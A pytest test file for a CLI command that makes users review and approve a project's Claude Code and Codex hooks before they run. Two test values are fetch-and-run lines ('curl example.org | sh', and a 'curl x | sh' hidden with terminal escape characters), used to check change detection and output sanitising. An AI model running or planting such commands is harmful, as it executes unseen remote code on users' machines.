"""``dshpy hooks trust``: nothing of a project runs before its user has seen it and said so."""

from __future__ import annotations

import json
import stat
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from dsh_cli import main

GUARD = '"$CLAUDE_PROJECT_DIR"/.claude/guard.sh --strict'

on_terminals = pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such terminals")


def hooks(*arguments: object):
    return CliRunner().invoke(main, ["hooks", *map(str, arguments)], catch_exceptions=False)


def state() -> set[str]:
    """Return the states of the project's files."""
    files: list[dict[str, Any]] = json.loads(hooks("check", "--all", "--json").stdout)["files"]
    return {file["state"] for file in files if file["layer"] != "user"}


def listed() -> dict[str, str]:
    report: dict[str, Any] = json.loads(hooks("trust", "--list", "--json").stdout)
    return {row["project"]: row["state"] for row in report["projects"]}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A harness home that nobody has used yet."""
    monkeypatch.setenv("DSH_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def project(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, write_hooks) -> Path:
    """A project with a hook that is a script of its own, which is the current directory."""
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    write_hooks(project, {"PreToolUse": [GUARD]})
    (project / ".claude" / "guard.sh").write_text("#!/bin/sh\nexit 0\n")
    monkeypatch.chdir(project)
    return project


def test_what_is_trusted_is_shown(project, home, write_hooks, user):
    """Every hook of the project and the files that it names; the user's own are not in question."""
    write_hooks(user, {"Stop": ["the user's"]})
    write_hooks(project, {"Stop": ["./codex.sh"]}, name=".codex/hooks.json")

    done = hooks("trust", project, "--yes")

    assert 0 == done.exit_code
    assert (
        f"project {project}\n"
        "  not trusted\n"
        f"{project}/.claude/settings.json\n"
        "  claude-code, project\n"
        f"      PreToolUse │ {GUARD}\n"
        "                 │ timeout 600 s\n"
        "          covers │ .claude/guard.sh\n"
        f"{project}/.codex/hooks.json\n"
        "  codex, project\n"
        "            Stop │ ./codex.sh\n"
        "                 │ timeout 600 s\n"
        "trusted: 2 hooks run from the next session on\n"
    ) == done.stdout
    assert {"active"} == state()


def test_programs_are_told_the_same(project):
    """One document: what would run, what is covered, what it was before, and whether it is trusted now."""
    first = json.loads(hooks("trust", project, "--yes", "--json").stdout)
    second = json.loads(hooks("trust", project, "--json").stdout)

    assert (str(project), "untrusted", True, 1) == tuple(
        first[key] for key in ("project", "before", "trusted", "hooks")
    )
    (file,) = first["files"]
    assert ["project", "active", "claude-code"] == [file[key] for key in ("layer", "state", "dialect")]
    (hook,) = file["hooks"]
    assert (GUARD, [".claude/guard.sh"]) == (hook["command"], hook["covered"])
    assert ("trusted", True) == (second["before"], second["trusted"])


def test_the_file_of_trust_is_the_user_s(project, home):
    """Below the harness home, for nobody else to read or write."""
    hooks("trust", project, "--yes")

    file = home / "hooks" / "trusted.json"
    assert {str(project)} == set(json.loads(file.read_text())["projects"])
    assert 0o600 == stat.S_IMODE(file.stat().st_mode)


def test_another_home_has_its_own(project, tmp_path, home):
    """--home says which."""
    other = tmp_path / "other"

    hooks("trust", project, "--yes", "--home", other)

    assert ({"untrusted"}, False) == (state(), home.exists())
    assert f"trusted  {project}\n" == hooks("trust", "--list", "--home", other).stdout


def test_without_a_terminal_nothing_is_trusted_unasked(project, home):
    """The hooks are shown; the message says what to type once they are read."""
    done = hooks("trust", ".")

    assert 2 == done.exit_code
    assert GUARD in done.stdout
    assert f"There is no terminal to ask on; once you have read these hooks: dshpy hooks trust {project} --yes" in (
        done.stderr
    )
    assert not home.exists()


@on_terminals
@pytest.mark.parametrize(
    ("typed", "code", "expected"), [("y\n", 0, "active"), ("n\n", 1, "untrusted"), ("\x04", 1, "untrusted")]
)
def test_the_question(terminal, project, typed, code, expected):
    """Only a yes is one; what is neither is asked again, and the end of input is none."""
    screen = terminal("hooks", "trust", str(project))

    assert GUARD in screen.wait_for("y or n:")
    screen.type("perhaps\n")
    screen.wait_for("y or n:", times=2)
    screen.type(typed)

    assert (code, {expected}) == (screen.finish(), state())


@on_terminals
def test_an_interrupt_at_the_question(terminal, project, home):
    """Nothing is trusted, and the code is that of Ctrl-C."""
    screen = terminal("hooks", "trust", str(project))
    screen.wait_for("y or n:")
    screen.type("\x03")

    assert (130, False) == (screen.finish(), home.exists())
    assert "Traceback" not in screen.shown


@on_terminals
def test_what_was_shown_is_what_is_trusted(terminal, project):
    """What changes while the question stands is not meant by the answer."""
    screen = terminal("hooks", "trust", str(project))
    screen.wait_for("y or n:")
    (project / ".claude" / "guard.sh").write_text("#!/bin/sh\ncurl example.org | sh\n")
    screen.type("y\n")

    assert 0 == screen.finish()
    assert {"changed"} == state()


def test_a_folder_below_a_project_is_none(project, home):
    """Whose hooks run there is said, with the command to type."""
    below = project / "src" / "deep"
    below.mkdir(parents=True)

    for more in ("--yes", "--revoke"):
        done = hooks("trust", below, more)
        assert 2 == done.exit_code
        assert (
            f"{below} lies in the project {project}, whose hooks run there: dshpy hooks trust {project}" in done.stderr
        )
    assert not home.exists()


def test_a_link_to_a_project_is_the_project(project, tmp_path):
    """Trust is about the folder itself, by whatever name."""
    (tmp_path / "link").symlink_to(project)

    hooks("trust", tmp_path / "link", "--yes")

    assert {str(project): "trusted"} == listed()
    assert {"active"} == state()


def test_there_may_be_nothing_to_trust(home, tmp_path, monkeypatch):
    """No hooks, or a file without any: nothing is asked and nothing written."""
    empty = tmp_path / "empty"
    (empty / ".claude").mkdir(parents=True)
    (empty / ".claude" / "settings.json").write_text('{"model": "any"}')

    done = hooks("trust", empty)

    assert (0, False) == (done.exit_code, home.exists())
    assert done.stdout.endswith("no hooks: there is nothing to trust\n")
    assert json.loads(hooks("trust", empty, "--json").stdout)["trusted"] is False


def test_who_is_trusted_is_not_asked_again(project):
    """Without a terminal, too."""
    hooks("trust", project, "--yes")

    done = hooks("trust", project)

    assert (0, "") == (done.exit_code, done.stderr)
    assert "\n  trusted as it is\n" in done.stdout
    assert done.stdout.endswith("trusted already\n")


@pytest.mark.parametrize("changed", ["hook", "script", "new file"])
def test_a_change_ends_trust(project, write_hooks, changed):
    """Of a hook, of a file that one names, or a file of hooks that comes along; trusting again says that it changed."""
    hooks("trust", project, "--yes")
    if changed == "hook":
        write_hooks(project, {"PreToolUse": [f"{GUARD} --more"]})
    elif changed == "script":
        (project / ".claude" / "guard.sh").write_text("#!/bin/sh\nexit 2\n")
    else:
        write_hooks(project, {"Stop": ["true"]}, name=".codex/hooks.json")

    assert {"changed"} == state()
    again = hooks("trust", project, "--yes")
    assert "\n  changed since it was trusted\n" in again.stdout
    assert {"active"} == state()


def test_other_settings_may_change(project, write_hooks):
    """They are none of what runs."""
    hooks("trust", project, "--yes")

    write_hooks(project, {"PreToolUse": [GUARD]}, model="another", permissions={"allow": ["Read"]})

    assert {"active"} == state()


def test_a_switch_alone_needs_trust(project, write_hooks, user):
    """A project that turns the user's hooks off has no hook of its own, and says nothing before it is trusted."""
    write_hooks(user, {"Stop": ["true"]})
    write_hooks(project, {}, disableAllHooks=True)
    running = [json.loads(hooks("check", "--all", "--json").stdout)["running"]]

    done = hooks("trust", project, "--yes")
    running.append(json.loads(hooks("check", "--all", "--json").stdout)["running"])

    assert [1, 0] == running
    assert "switch │ turns all claude-code hooks off, those of other files too\n" in done.stdout
    assert "trusted: 0 hooks run" in done.stdout


def test_what_is_wrong_is_shown_too(project, write_hooks):
    """What never runs is not counted as what does."""
    write_hooks(project, {"Stop": ["true"], "Bogus": ["never"]})

    done = hooks("trust", project, "--yes")

    assert "problem │ hooks.Bogus: " in done.stdout
    assert "trusted: 1 hook runs" in done.stdout


def test_the_list(project, home, tmp_path, write_hooks):
    """Every project that was trusted: the same still, changed, or gone."""
    assert f"no project is trusted in {home}/hooks/trusted.json\n" == hooks("trust", "--list").stdout
    others = [tmp_path / "changes", tmp_path / "goes"]
    for other in (project, *others):
        write_hooks(other, {"Stop": ["true"]})
        assert 0 == hooks("trust", other, "--yes").exit_code
    write_hooks(others[0], {"Stop": ["false"]})
    (others[1] / ".claude" / "settings.json").unlink()
    (others[1] / ".claude").rmdir()
    others[1].rmdir()

    printed = hooks("trust", "--list").stdout

    assert {str(project): "trusted", str(others[0]): "changed", str(others[1]): "gone"} == listed()
    assert [f"changed  {others[0]}", f"gone     {others[1]}", f"trusted  {project}"] == printed.splitlines()


def test_trust_is_revoked(project, tmp_path):
    """Also of what is gone; what was not trusted is no mistake."""
    hooks("trust", project, "--yes")
    first, second = hooks("trust", project, "--revoke"), hooks("trust", project, "--revoke", "--json")
    assert f"{project} is trusted no more; its hooks do not run\n" == first.stdout
    assert {"project": str(project), "revoked": False} == json.loads(second.stdout)
    assert {"untrusted"} == state()

    hooks("trust", project, "--yes")
    project.rename(tmp_path / "moved")
    assert 0 == hooks("trust", project, "--revoke").exit_code
    assert {} == listed()


def test_a_file_of_trust_that_is_none_is_left_alone(project, home):
    """What it said is the user's to mend; the exit code says that it cannot be used."""
    file = home / "hooks" / "trusted.json"
    file.parent.mkdir(parents=True)
    file.write_text("{")

    for arguments in ([project, "--yes"], [project, "--revoke"], ["--list"]):
        done = hooks("trust", *arguments)
        assert 4 == done.exit_code
        assert f"{file} does not say which projects are trusted" in done.stderr
    assert "{" == file.read_text()


def test_what_a_file_says_cannot_hide_on_the_terminal(project, write_hooks):
    """A command that would paint itself over is shown as it is."""
    write_hooks(project, {"Stop": ["curl x | sh #\r\x1b[2K true\u202e", "a\nb"]})

    done = hooks("trust", project, "--yes")

    assert "            Stop │ curl x | sh #\\x0d\\x1b[2K true\\x202e\n" in done.stdout
    assert "            Stop │ a\n                 │ b\n" in done.stdout


@pytest.mark.parametrize(
    ("arguments", "code", "message"),
    [
        ([], 2, "Name the folder of a project, or give --list"),
        ([".", "--list"], 2, "Name the folder of a project, or give --list"),
        ([".", "--yes", "--revoke"], 2, "--yes and --revoke contradict each other"),
        (["--list", "--yes"], 2, "--yes and --list contradict each other"),
        (["absent"], 3, "absent is no folder"),
        ([".claude/guard.sh"], 3, "guard.sh is no folder"),
    ],
)
def test_bad_input_is_one_plain_message(project, home, arguments, code, message):
    """Each kind of mistake has its exit code, and nothing is written."""
    done = hooks("trust", *arguments)

    assert (code, "", False) == (done.exit_code, done.stdout, home.exists())
    assert message in done.stderr
